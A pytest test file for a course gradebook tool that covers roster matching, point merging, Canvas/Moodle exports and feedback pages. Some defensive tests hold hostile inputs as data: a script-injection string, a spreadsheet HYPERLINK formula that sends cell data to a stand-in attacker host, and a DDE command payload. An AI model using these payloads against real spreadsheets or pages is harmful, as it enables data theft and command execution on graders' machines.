"""Grades ready for a gradebook: points, roster matching, merging written points, exports, feedback pages."""

from __future__ import annotations

import csv
import json
import sys
from decimal import Decimal
from pathlib import Path

import pytest

from tool_loader import load_tool

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tools"))
from grading import gradebook  # noqa: E402
from grading.gradebook import Points, Roster  # noqa: E402

tool = load_tool("tools/assignments.py")

QUESTIONS = [tool.Question("ex-a-1", "Exercise 1.1", [tool.Part("alpha", "f", 1, 1)], 2),
             tool.Question("ex-a-2", "Exercise 1.2", [tool.Part("beta", "g", 1, 1)], None),
             tool.Question("ex-a-3", "Exercise 1.3", [], 2)]


def test_points_come_from_the_build_then_a_file_then_the_command_line(tmp_path):
    default = Points.of(QUESTIONS)
    assert default.part("ex-a-1", "f", "hidden") == 1 and default.written("ex-a-3") == 2 and default.precision == 0
    file = tmp_path / "points.txt"
    file.write_text("# the term's weights\nprecision = 1\nex-a-1.hidden = 2.5\nex-a-3.written = 4  # longer essay\n")
    points = Points.of(QUESTIONS, file=file, overrides=["ex-a-2/g.public=0.5", "ex-a-1.written=3"])
    assert points.precision == 1
    assert points.part("ex-a-1", "f", "hidden") == Decimal("2.5") and points.part("ex-a-2", "g", "public") == \
        Decimal("0.5")
    assert points.written("ex-a-3") == 4 and points.written("ex-a-1") == 3
    assert gradebook.fmt(points.part("ex-a-1", "f", "public"), 1) == "1.0"


@pytest.mark.parametrize("overrides, message", [
    (["ex-a-1.hidden=2.5"], "more than 0 decimal"),
    (["ex-a-9.public=1"], "no public part of a question 'ex-a-9'"),
    (["ex-a-2.written=1"], "no written part"),
    (["ex-a-1.hidden=-1"], ">= 0"),
    (["ex-a-1.hidden=lots"], "not a number"),
    (["ex-a-1.bonus=1"], "is not <question>"),
    (["ex-a-1.hidden"], "expected KEY=VALUE"),
])
def test_bad_points_are_refused_naming_the_key(overrides, message):
    with pytest.raises(SystemExit, match=message):
        Points.of(QUESTIONS, overrides=overrides)


def _roster(tmp_path) -> Path:
    path = tmp_path / "roster.csv"
    path.write_text("student_id,name,lms_id,email,section\n"
                    "s001,\"Smith, Carol\",12345,carol@uni.example,A\n"
                    "s002,Dan Ng,654321,dan@uni.example,B\n"
                    "s003,Eve Moss,777,eve@uni.example,A\n")
    return path


def test_a_roster_matches_lms_download_names_then_the_student_cell(tmp_path):
    roster = Roster.load(_roster(tmp_path))
    assert roster.match("smithcarol_12345_998877_seli.ipynb", None)[0].student_id == "s001"   # Canvas
    assert roster.match("smithcarol_LATE_12345_998877_seli.ipynb", None)[0].student_id == "s001"
    assert roster.match("Dan Ng_654321_assignsubmission_file_seli.ipynb", None)[0].student_id == "s002"  # Moodle
    assert roster.match("anything.ipynb", " EVE@uni.example ")[0].student_id == "s003"
    assert roster.match("anything.ipynb", "eve   moss")[1] == "STUDENT cell (name)"
    assert roster.match("anything.ipynb", "s002")[0].name == "Dan Ng"
    assert roster.match("x_999_y.ipynb", "nobody") == (None, "not in the roster")


def test_a_roster_with_repeated_ids_or_no_id_column_is_refused(tmp_path):
    bad = tmp_path / "bad.csv"
    bad.write_text("student_id,name,lms_id\ns1,A,1\ns1,B,2\n")
    with pytest.raises(SystemExit, match="appears twice"):
        Roster.load(bad)
    bad.write_text("who,name\nx,A\n")
    with pytest.raises(SystemExit, match="needs a student_id and a name"):
        Roster.load(bad)


def _results(tmp_path, points: Points) -> Path:
    """A results folder as grade writes it: two roster students, one stranger, written answers to fill."""
    out = tmp_path / "results"
    (out / "answers").mkdir(parents=True)
    (out / "feedback").mkdir()
    columns = ["id", "student", "student_id", "lms_id", "submission", "ex-a-1", "ex-a-2", "ex-a-1 written",
               "ex-a-3 written", "autograded", "written", "total", "possible", "seconds", "error", "review"]
    rows = [{"id": "c-1", "student": "Smith, Carol", "student_id": "s001", "lms_id": "12345", "submission": "c.ipynb",
             "ex-a-1": "2", "ex-a-2": "1", "autograded": "3", "total": "3", "possible": "8"},
            {"id": "d-2", "student": "Dan Ng", "student_id": "s002", "lms_id": "654321", "submission": "d.ipynb",
             "ex-a-1": "0", "ex-a-2": "2", "autograded": "2", "total": "2", "possible": "8"},
            {"id": "x-3", "student": "x", "student_id": "", "lms_id": "", "submission": "x.ipynb",
             "ex-a-1": "1", "ex-a-2": "0", "autograded": "1", "total": "1", "possible": "8"}]
    gradebook.write_csv(out / "scores.csv", columns, rows)
    for label in ("ex-a-1", "ex-a-3"):
        gradebook.write_csv(out / "answers" / f"{label}.csv", ["id", "student", "submission", "question", "answer",
                                                               "points"],
                            [{"id": r["id"], "student": r["student"], "submission": r["submission"],
                              "question": label, "answer": "because ...", "points": ""} for r in rows])
        for r in rows:
            record = {"student": r["student"], "submission": r["submission"], "assignment": "a", "precision": 0,
                      "questions": [{"label": label, "title": label, "parts": [], "auto": None,
                                     "auto_possible": None, "written": None, "written_possible": "2"}],
                      "total": r["total"], "possible": "8", "written_done": False, "problems": []}
            (out / "feedback" / f"{r['id']}.json").write_text(json.dumps(record))
    info = {"chapter": "a", "columns": columns, "written": ["ex-a-1", "ex-a-3"], "points": points.as_dict(),
            "auto_possible": "4", "written_possible": "4", "possible": "8"}
    (out / "grading.json").write_text(json.dumps(info))
    return out


def _fill(path: Path, points: dict[str, str]) -> None:
    """The instructor fills the points column (a spreadsheet's CSV: the values as typed)."""
    rows = list(csv.DictReader(path.open()))
    for r in rows:
        r["points"] = points.get(r["id"], "")
    with path.open("w", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def test_merged_written_points_reach_total_and_the_canvas_and_moodle_exports(tmp_path):
    out = _results(tmp_path, Points.of(QUESTIONS))
    _fill(out / "answers" / "ex-a-1.csv", {"c-1": "2", "d-2": "1", "x-3": "0"})
    _fill(out / "answers" / "ex-a-3.csv", {"c-1": "1", "d-2": "2"})
    log = []
    rows = {r["id"]: r for r in gradebook.merge(out, log=log.append)}
    assert rows["c-1"]["total"] == "6" and rows["c-1"]["written"] == "3" and rows["c-1"]["ex-a-3 written"] == "1"
    assert rows["x-3"]["total"] == "1" and rows["x-3"]["ex-a-3 written"] == "" and "1 still blank" in log[0]
    page = (out / "feedback" / "c-1.html").read_text()
    assert "6 of 8" in page and "not graded yet" not in page.split("<h2>")[0].split("total")[1]
    roster = Roster.load(_roster(tmp_path))
    canvas = list(csv.reader(gradebook.export(out, roster, "canvas", assignment="SELI exercises", log=log.append)
                             .open(newline="")))
    assert canvas[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "SELI exercises"]
    assert canvas[1][0] == "Points Possible" and canvas[1][-1] == "8"
    assert canvas[2:] == [["Smith, Carol", "12345", "s001", "carol@uni.example", "A", "6"],
                          ["Dan Ng", "654321", "s002", "dan@uni.example", "B", "5"]]
    assert any("not in the roster" in line and "x.ipynb" in line for line in log)
    moodle = list(csv.DictReader(gradebook.export(out, roster, "moodle", assignment="SELI", log=log.append)
                                 .open(newline="")))
    assert {"Identifier", "Grade", "Last modified (grade)", "Feedback comments"} <= set(moodle[0])
    assert [(r["Identifier"], r["Grade"], r["Maximum Grade"]) for r in moodle] == \
        [("Participant 12345", "6", "8"), ("Participant 654321", "5", "8")]


@pytest.mark.parametrize("value, message", [("3", "more than the 2"), ("1.5", "decimal"), ("-1", ">= 0"),
                                            ("two", "not a number")])
def test_merge_refuses_points_that_do_not_fit_naming_file_and_line(tmp_path, value, message):
    out = _results(tmp_path, Points.of(QUESTIONS))
    _fill(out / "answers" / "ex-a-1.csv", {"d-2": value})
    with pytest.raises(SystemExit, match=rf"ex-a-1\.csv:3: .*{message}"):
        gradebook.merge(out, log=lambda *_: None)


def test_a_feedback_page_escapes_what_the_student_wrote():
    record = {"student": "<script>alert(1)</script>", "submission": "a&b.ipynb", "assignment": "seli",
              "precision": 0, "total": "1", "possible": "2", "written_done": True, "problems": ["cell 3 raised X"],
              "questions": [{"label": "ex-1", "title": "Exercise 1", "auto": "1", "auto_possible": "2",
                             "written": None, "written_possible": None,
                             "parts": [{"function": "f", "public_passed": False, "public": "0", "public_possible": "1",
                                        "message": "raised ValueError: <b>bold</b>", "hidden_passed": 2,
                                        "hidden_total": 3, "hidden": "0", "hidden_possible": "1"}]}]}
    page = gradebook.feedback_html(record)
    assert "<script>" not in page and "&lt;script&gt;" in page and "&lt;b&gt;bold&lt;/b&gt;" in page
    assert "2 of 3 passed, 0 earned" in page and "1 of 2" in page and "a&amp;b.ipynb" in page
    # how many hidden cases passed, never which failed or how (a function that sees every hidden case could
    # choose which fail, and how, to pass a few bits out a regrade)
    hidden = page.split("Hidden cases")[1].split("</p>")[0]
    assert "failure" not in hidden and "exception" not in hidden and "wrong" not in hidden


def test_the_lms_id_comes_from_its_place_in_the_file_name_and_the_student_cell_never_overrides_it(tmp_path):
    """A file name carrying two LMS ids and a STUDENT cell naming the victim was matched to the victim (two ids in
    the name: ambiguous, so the STUDENT cell decided). The id is read where Canvas and Moodle write it."""
    roster = Roster.load(_roster(tmp_path))
    carol, how, notes = roster.identify("smithcarol_12345_998877_seli_654321.ipynb", "s002")
    assert carol.student_id == "s001" and how == "LMS id in the file name"
    assert notes and "STUDENT cell says 's002'" in notes[0] and "graded as s001" in notes[0]
    assert roster.identify("ngdan_654321_1_seli_12345.ipynb", "Dan Ng") == (roster.students[1],
                                                                            "LMS id in the file name", [])
    assert roster.identify("Eve Moss_777_assignsubmission_file_seli_12345.ipynb", None)[0].student_id == "s003"
    # an LMS id the roster lacks matches no one, whatever the cell says
    assert roster.identify("mallory_999_1_seli.ipynb", "s001")[0] is None
    assert gradebook.lms_id_in("seli_12345_final.ipynb") is None  # numbers elsewhere in a name do not count


def test_export_and_merge_refuse_a_student_with_several_rows_unless_told_which_counts(tmp_path):
    out = _results(tmp_path, Points.of(QUESTIONS))
    rows = list(csv.DictReader((out / "scores.csv").open()))
    rows.append({**rows[1], "id": "d-9", "submission": "ngdan_654321_2_seli.ipynb", "total": "8", "autograded": "8"})
    columns = list(rows[0])
    gradebook.write_csv(out / "scores.csv", columns, rows)
    roster = Roster.load(_roster(tmp_path))
    for act in (lambda keep: gradebook.export(out, roster, "canvas", assignment="A", keep=keep, log=lambda *_: None),
                lambda keep: gradebook.merge(out, keep=keep, log=lambda *_: None)):
        with pytest.raises(SystemExit, match=r"(?s)1 student\(s\) have several rows.*--keep.*s002: 'd.ipynb', "
                                             r"'ngdan_654321_2_seli.ipynb'"):
            act(())
        with pytest.raises(SystemExit, match="--keep names 2 of them"):
            act(("d.ipynb", "d-9"))
    path = gradebook.export(out, roster, "canvas", assignment="A", keep=("d.ipynb",), log=lambda *_: None)
    got = {r[2]: r[5] for r in csv.reader(path.open(newline=""))}
    assert got["s002"] == "2"  # the kept row, not the last by file name (8)
    rows.append({**rows[0], "submission": "copy.ipynb"})  # two rows of one id: no export can tell them apart
    gradebook.write_csv(out / "scores.csv", columns, rows)
    with pytest.raises(SystemExit, match="the id 'c-1' names 2 rows"):
        gradebook.export(out, roster, "canvas", assignment="A", keep=("d.ipynb",), log=lambda *_: None)


FORMULA = ("=", "+", "-", "@", "\t", "\r")


def test_no_field_of_a_written_csv_starts_like_a_formula(tmp_path):
    """A submission's file name, its STUDENT value and its written answers reach scores.csv, the answers CSVs and
    the exports: each field that a spreadsheet would read as a formula is neutralised."""
    out = _results(tmp_path, Points.of(QUESTIONS))
    rows = list(csv.DictReader((out / "scores.csv").open()))
    rows[0].update(submission='=HYPERLINK("http://evil.example","x").ipynb', student="@SUM(1+1)", review="-2+3")
    gradebook.write_csv(out / "scores.csv", list(rows[0]), rows)
    answers = out / "answers" / "ex-a-1.csv"
    table = list(csv.DictReader(answers.open()))
    for r, text in zip(table, ['=HYPERLINK("https://evil.example/?"&E2,"see")', "+WEBSERVICE(1)", "\t=1+1"]):
        r["answer"] = text
    gradebook.write_csv(answers, list(table[0]), table)
    roster_path = tmp_path / "roster-evil.csv"
    roster_path.write_text("student_id,name,lms_id\ns001,=cmd|' /C calc'!A0,12345\ns002,Dan Ng,654321\n")
    files = [out / "scores.csv", answers,
             gradebook.export(out, Roster.load(roster_path), "canvas", assignment="A", log=lambda *_: None),
             gradebook.export(out, Roster.load(roster_path), "moodle", assignment="A", log=lambda *_: None)]
    fields = [v for f in files for row in csv.reader(f.open(newline="", encoding="utf-8")) for v in row]
    assert fields and not [v for v in fields if v.startswith(FORMULA)], [v for v in fields if v.startswith(FORMULA)]
    assert "'=HYPERLINK(\"http://evil.example\",\"x\").ipynb" in fields and "'=cmd|' /C calc'!A0" in fields
    assert gradebook.csv_safe("'=x") == "'=x" and gradebook.csv_safe("3") == "3"


@pytest.mark.parametrize("module", sorted(p.stem for p in (ROOT / "tools" / "grading").glob("*.py") if p.stem != "__init__"))
def test_the_grading_modules_doctests_pass(module):
    """The grader's docstring examples run (the CI doctest step covers ncbook and tests, not tools/)."""
    import doctest
    import importlib
    result = doctest.testmod(importlib.import_module(f"grading.{module}"), optionflags=doctest.ELLIPSIS)
    assert result.failed == 0, (module, result)
